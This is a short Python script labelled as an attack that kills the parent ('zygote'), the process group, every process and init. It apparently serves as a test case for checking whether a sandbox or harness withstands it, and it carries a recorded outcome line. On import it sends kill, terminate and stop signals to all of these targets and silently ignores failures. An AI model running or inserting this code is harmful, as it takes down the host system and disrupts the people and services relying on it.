# Attack: kill zygote, group, everybody
# Outcome: import=ok replay=missing
import os

for target in (os.getppid(), 0, -1, 1):
    for number in (9, 15, 19):
        try:
            os.kill(target, number)
        except OSError:
            pass
